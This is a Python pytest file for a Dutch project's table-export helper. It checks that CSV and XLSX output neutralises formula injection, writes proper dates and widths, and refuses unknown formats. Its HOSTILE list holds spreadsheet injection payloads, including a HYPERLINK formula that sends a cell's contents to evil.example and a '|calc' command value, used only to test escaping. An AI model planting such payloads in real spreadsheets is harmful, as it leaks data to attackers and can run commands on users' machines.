"""The export helper: user text never becomes a formula, dates are dates, columns have widths."""

import csv
import datetime
import io
import zoneinfo

import pytest
from openpyxl import load_workbook

from bouwplaats.core.exports import export_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D2;"Klik hier")',
    "+31 6 1234 5678",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
]


def _csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_neutralises_formula_text(value):
    content, content_type, name = export_table(
        header=["Naam"], rows=[[value]], fmt="csv", name="lijst", title="Lijst"
    )
    cell = _csv_cells(content)[1][0]
    assert content_type.startswith("text/csv") and name == "lijst.csv"
    assert cell.startswith("'"), cell


def test_csv_keeps_plain_text_numbers_and_writes_iso_dates():
    when = datetime.datetime(2027, 6, 10, 7, 30, tzinfo=datetime.UTC)
    content, _type, _name = export_table(
        header=["Naam", "Aantal", "Wanneer"],
        rows=[["Jaco Pieper", -5, when], ["Ede – Coöperatie", 3, datetime.date(2027, 1, 2)]],
        fmt="csv",
        name="lijst",
        title="Lijst",
    )
    rows = _csv_cells(content)
    assert rows[1] == ["Jaco Pieper", "-5", "2027-06-10 09:30"]
    assert rows[2] == ["Ede – Coöperatie", "3", "2027-01-02"]


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_stores_user_text_as_text(value):
    content, content_type, name = export_table(
        header=["Naam"], rows=[[value]], fmt="xlsx", name="lijst", title="Deelnemers"
    )
    assert name == "lijst.xlsx" and "spreadsheetml" in content_type
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet["A2"]
    assert cell.data_type == "s", (value, cell.data_type)
    assert cell.value == value.lstrip("\t\r")


def test_xlsx_dates_are_dates_and_columns_have_widths():
    when = datetime.datetime(2027, 10, 31, 1, 30, tzinfo=datetime.UTC)
    content, _type, _name = export_table(
        header=["Naam", "Aangemeld op"],
        rows=[["Een heel lange naam van een organisatie in de regio", when]],
        fmt="xlsx",
        name="lijst",
        title="Een sheet met een titel die langer is dan eenendertig tekens",
    )
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.active
    assert len(sheet.title) == 31
    assert sheet["B2"].is_date
    amsterdam = zoneinfo.ZoneInfo("Europe/Amsterdam")
    assert sheet["B2"].value == when.astimezone(amsterdam).replace(tzinfo=None)
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width >= 8
    assert sheet.freeze_panes == "A2"


def test_unknown_format_is_refused():
    with pytest.raises(ValueError):
        export_table(header=["a"], rows=[], fmt="ods", name="x", title="x")
